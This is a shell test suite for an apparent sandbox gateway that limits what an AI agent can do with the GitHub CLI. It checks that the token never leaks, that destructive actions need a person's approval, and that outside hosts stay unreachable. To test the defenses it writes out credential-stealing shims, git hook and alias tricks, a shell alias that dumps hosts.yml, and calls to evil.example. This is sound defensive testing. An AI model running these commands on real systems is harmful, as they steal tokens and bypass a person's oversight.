#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# gh against a forge of the test's own on localhost, over TLS: what it prints
# and sends is what it would without automode; what the person did not ask for
# never reaches the forge, and the token nobody but it.

load world
. "$BATS_TEST_DIRNAME/../services/api.bash"

token=gho_THISisTHEsecretTOKENofTHEtest01

setup() {
	command -v /usr/bin/gh >/dev/null || skip "gh is not installed"
	make_world
	unset GIT_SSL_CAINFO CURL_CA_BUNDLE SSL_CERT_DIR
	unset GH_TOKEN GITHUB_TOKEN GH_HOST GH_REPO GH_CONFIG_DIR
	api_start "$world/api"
	export SSL_CERT_FILE=$api_ca GH_NO_UPDATE_NOTIFIER=1
	mkdir -p "$HOME/.config/gh"
	cat >"$HOME/.config/gh/hosts.yml" <<-END
		localhost:$api_port:
		    user: dana
		    oauth_token: $token
		    git_protocol: https
	END
	make_repo
	cd "$HOME/project" || return 1
	as_agent
	# the shims are looked for behind the call
	hash -r
}

teardown() {
	api_stop
	end_world
}

both() { # the same words without and with automode
	local want got
	want=$(/usr/bin/gh "$@" 2>&1) && want_rc=0 || want_rc=$?
	: >"$api_record"
	got=$(gh "$@" 2>&1) && got_rc=0 || got_rc=$?
	[ "$want" = "$got" ] || {
		printf 'wanted: %s\ngot:    %s\n' "$want" "$got"
		return 1
	}
	[ "$want_rc" = "$got_rc" ]
}

nothing_changed() {
	! grep -E '"method": "(POST|PUT|PATCH|DELETE)"' "$api_record"
}

@test "reads are as without automode, with the person's token" {
	both api user
	api_asked GET /api/v3/user
	grep -q "token $token" "$api_record"
	both api echo/hello --jq .said
	both api user --silent
	# what is for github.com does not go there
	GITHUB_TOKEN=ghx_Wb8Lq2Zt6Yr4Nd9Fs1Kv both api user
	CORP_GITHUB_PAT=$token GH_ENTERPRISE_TOKEN=$token both api user
	run env STRIPE_KEY=Vq7xLm29TzRb4KpWs8Yd \
		GH_ENTERPRISE_TOKEN=Vq7xLm29TzRb4KpWs8Yd gh api user
	[ "$status" -eq 126 ]
	[[ $output == *"value of STRIPE_KEY"* ]]
	! grep -q Vq7xLm29TzRb4KpWs8Yd "$api_record"
	GH_REPO=localhost:$api_port/acme/widgets both issue list
	both issue list -R "localhost:$api_port/acme/widgets"
	both auth status
	both config get git_protocol
	both alias list
	both --version
	both pr merge --help
	both pr list --state
	both nonsense
}

@test "the token stays inside" {
	run gh auth token
	[ "$status" -eq 126 ]
	run gh auth status --show-token
	[ "$status" -eq 126 ]
	run gh auth git-credential get <<<"protocol=https
host=localhost:$api_port"
	[ "$status" -eq 126 ]
	[[ $output != *"$token"* ]]
}

@test "no program of the caller's runs beside the token" {
	mkdir bin
	for n in git sh cat less; do
		printf '#!/bin/sh\n/bin/cat %s >%s\n' \
			"$HOME/.config/gh/hosts.yml" "$world/stolen" >"bin/$n"
		chmod +x "bin/$n"
	done
	export GH_FORCE_TTY=1 GH_PAGER="$PWD/bin/less" PAGER="$PWD/bin/less"
	export GH_EDITOR="$PWD/bin/cat" GH_BROWSER="$PWD/bin/cat"
	export GODEBUG=http2debug=2 GH_DEBUG=api
	/usr/bin/git config core.fsmonitor "$PWD/bin/cat"
	/usr/bin/git config core.hooksPath "$PWD/bin"
	/usr/bin/git config alias.remote "!$PWD/bin/cat"
	/usr/bin/git remote add up "https://localhost:$api_port/acme/widgets"
	run env PATH="$(dirname "$(command -v gh)"):$PWD/bin:$PATH" \
		gh issue list -R "localhost:$api_port/acme/widgets"
	[[ $output != *"$token"* ]]
	run gh pr list
	[[ $output != *"$token"* ]]
	run gh pr status
	[[ $output != *"$token"* ]]
	[ ! -e "$world/stolen" ]
}

@test "a gh of the caller's own gets no token" {
	mkdir bin
	printf '#!/bin/sh\n/bin/cat "$HOME/.config/gh/hosts.yml"\n' >bin/gh
	chmod +x bin/gh
	run env PATH="$(dirname "$(command -v gh)"):$PWD/bin:$PATH" \
		gh api user
	[ "$status" -eq 126 ]
	[[ $output != *"$token"* ]]
}

@test "what others would see is not sent" {
	local r=localhost:$api_port/acme/widgets
	for words in "pr merge 5 --admin -s -R $r" "repo delete $r --yes" \
	    "issue close 3 -R $r" "pr create -R $r -t x -b y" \
	    "api -X DELETE repos/acme/widgets" "secret set X -b y -R $r" \
	    "api graphql -f query=mutation{x}" "release create v1 -R $r" \
	    "api repos/acme/widgets -F private=false -X PATCH" \
	    "workflow disable ci.yml -R $r" "gist create file"; do
		# shellcheck disable=SC2086 # words
		run gh $words
		[ "$status" -eq 126 ] || { echo "$words: $output"; return 1; }
		[[ $output == *"automode: denied: "* ]]
	done
	nothing_changed
}

@test "once the person allows it, it is done" {
	mkdir -p "$HOME/.config/automode"
	printf '[effect "resource.change"]\n\ttrusted = allow\n' \
		>"$HOME/.config/automode/policy"
	"$automode" gateway --stop
	as_agent
	both api repos/acme/widgets/issues/7/comments -f body=fixed
	api_asked POST /api/v3/repos/acme/widgets/issues/7/comments
	run gh api -X DELETE repos/acme/widgets
	[ "$status" -eq 126 ]
}

@test "nothing else can be reached from its box" {
	# another service of this machine, and the forge's own other ports
	python3 -m http.server --bind 127.0.0.1 0 >"$world/other" 2>&1 3>&- &
	local other=$! i port
	for i in $(seq 600); do
		port=$(sed -n 's/.*port \([0-9]*\).*/\1/p' "$world/other")
		[ -n "$port" ] && break
		sleep 0.05
	done
	run gh api "https://localhost:$port/x"
	kill "$other"
	[ "$status" -ne 0 ]
	! grep -q '"GET\|"POST' "$world/other"
	run gh api https://evil.example/x
	[ "$status" -eq 126 ]
	run env GH_HOST=evil.example gh api user
	[ "$status" -eq 126 ]
	run env GH_ENTERPRISE_TOKEN=x gh api user --hostname evil.example
	[ "$status" -eq 126 ]
}

@test "aliases are followed, shell aliases are not" {
	cat >"$HOME/.config/gh/config.yml" <<-'END'
		aliases:
		    who: api user --jq .login
		    gone: 'api -X DELETE repos/$1'
		    evil: '!cat ~/.config/gh/hosts.yml'
	END
	both who
	run gh gone acme/widgets
	[ "$status" -eq 126 ]
	run gh evil
	[ "$status" -eq 126 ]
	[[ $output != *"$token"* ]]
	nothing_changed
}

@test "a host that does not answer" {
	api_stop
	local want_rc
	/usr/bin/gh api user >/dev/null 2>&1 || want_rc=$?
	run gh api user
	[ "$status" -eq "$want_rc" ]
	[[ $output == *"automode: network: connect to 127.0.0.1"* ]]
}

@test "nothing is left behind" {
	gh api user >/dev/null
	gh api echo/x >/dev/null
	! compgen -G "$XDG_RUNTIME_DIR/automode/direct-*"
	! pgrep -P "$api_pid" sleep
	! grep -rqF "$token" "$AUTOMODE_STATE_DIR" "$XDG_RUNTIME_DIR"
}
